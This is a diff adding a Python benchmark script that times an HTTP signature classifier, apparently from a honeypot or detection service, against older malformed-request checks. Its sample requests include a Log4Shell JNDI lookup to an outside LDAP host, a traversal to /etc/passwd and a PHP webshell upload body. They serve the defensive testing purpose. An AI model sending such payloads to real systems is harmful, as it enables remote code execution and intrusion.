@@ -0,0 +1,154 @@
+import argparse
+import os
+import re
+import sys
+import timeit
+from urllib.parse import unquote
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
+
+from src.services.http.body_capture import CapturedBody  # noqa: E402
+from src.services.http.http_service import HTTPService  # noqa: E402
+from src.services.http.signature_classifier import (  # noqa: E402
+    BODY,
+    FIELDS,
+    HEADERS,
+    URL,
+    USER_AGENT,
+    SignatureClassifier,
+)
+
+ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
+
+BROWSER_HEADERS = {
+    "Host": "203.0.113.10",
+    "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+    "Accept": "*/*",
+    "Accept-Encoding": "gzip, deflate",
+    "Connection": "close",
+}
+
+# (name, method, raw path and query, headers, body)
+REQUESTS = [
+    ("benign", "GET", "/index.html", BROWSER_HEADERS, None),
+    ("wordpress scan", "GET", "/wp-login.php", {**BROWSER_HEADERS, "User-Agent": "Nmap NSE"}, None),
+    (
+        "log4shell",
+        "GET",
+        "/?x=%24%7Bjndi:ldap://198.51.100.7:1389/a%7D",
+        {**BROWSER_HEADERS, "X-Api-Version": "${jndi:ldap://198.51.100.7:1389/a}"},
+        None,
+    ),
+    ("traversal", "GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", BROWSER_HEADERS, None),
+    (
+        "form post",
+        "POST",
+        "/login",
+        BROWSER_HEADERS,
+        b"username=admin&password=" + b"hunter2&" * 200,
+    ),
+    (
+        "webshell upload",
+        "POST",
+        "/upload.php",
+        BROWSER_HEADERS,
+        b"<?php system($_GET['c']); ?>" + bytes(range(256)) * 16,
+    ),
+]
+
+
+def legacy_is_malformed(request_method, request_path, request_headers, request_payload):
+    # HTTPService.is_malformed before the signature classifier
+    if request_method not in ["GET", "POST", "PUT", "DELETE"]:
+        return True
+    if request_method == "GET" and request_payload:
+        return True
+    if (
+        not request_path
+        or ".." in request_path
+        or not all(char.isprintable() for char in request_path)
+    ):
+        return True
+    required_headers = ["Accept", "Host", "User-Agent"]
+    if not all(header in request_headers for header in required_headers):
+        return True
+    if request_payload and len(request_payload) > 1024 * 1024:
+        return True
+    if request_method in ["POST", "PUT", "DELETE"] and not request_payload:
+        return True
+    return False
+
+
+def alternation_classifier(classifier):
+    # The same rules as one case insensitive alternation per field, scanned
+    # in a single pass, for comparison
+    patterns = {}
+    for field in FIELDS:
+        branches = [
+            f"(?P<rule{index}>{'|'.join(pattern.pattern for pattern in rule_patterns)})"
+            for index, (_, _, fields, rule_patterns) in enumerate(classifier.rules)
+            if field in fields
+        ]
+        if branches:
+            patterns[field] = re.compile("|".join(branches), re.IGNORECASE | re.DOTALL)
+
+    def classify(url, headers, body):
+        fields = {
+            URL: url,
+            USER_AGENT: headers.get("User-Agent", ""),
+            HEADERS: "\n".join(f"{name}: {value}" for name, value in headers.items()),
+            BODY: body[: classifier.max_body_bytes].decode("latin-1") if body else "",
+        }
+        matched = {
+            match.lastgroup
+            for field, pattern in patterns.items()
+            for match in pattern.finditer(fields[field])
+        }
+        return sorted(matched)
+
+    return classify
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Per-request cost of classifying HTTP requests")
+    parser.add_argument("--number", type=int, default=10000)
+    parser.add_argument("--signatures", default=os.path.join(ROOT, "signatures", "http.rules"))
+    parser.add_argument("--body-bytes", type=int, default=8192)
+    args = parser.parse_args()
+
+    classifier = SignatureClassifier(args.body_bytes)
+    classifier.load(args.signatures)
+    is_malformed = HTTPService.is_malformed
+    alternation = alternation_classifier(classifier)
+
+    print(f"{len(classifier.rules)} rules from {args.signatures}, time per request")
+    for name, method, path, headers, body in REQUESTS:
+        payload = CapturedBody.from_bytes(body, 64 * 1024) if body is not None else None
+        path_only = unquote(path.partition("?")[0])
+
+        def legacy():
+            return legacy_is_malformed(method, path_only, headers, payload)
+
+        def malformed():
+            return is_malformed(None, method, path_only, headers, payload)
+
+        def classify():
+            return classifier.classify(unquote(path), headers, payload.data if payload else None)
+
+        def single_pass():
+            return alternation(unquote(path), headers, payload.data if payload else None)
+
+        signatures, severity = classify()
+        print(f"{name} -> {severity} {' '.join(signatures)}")
+        for label, function in (
+            ("previous is_malformed", legacy),
+            ("is_malformed", malformed),
+            ("classify", classify),
+            ("single alternation", single_pass),
+        ):
+            seconds = min(timeit.repeat(function, number=args.number, repeat=3))
+            print(f"{label:>24}: {seconds / args.number * 1e6:7.2f} us")
+
+
+if __name__ == "__main__":
+    main()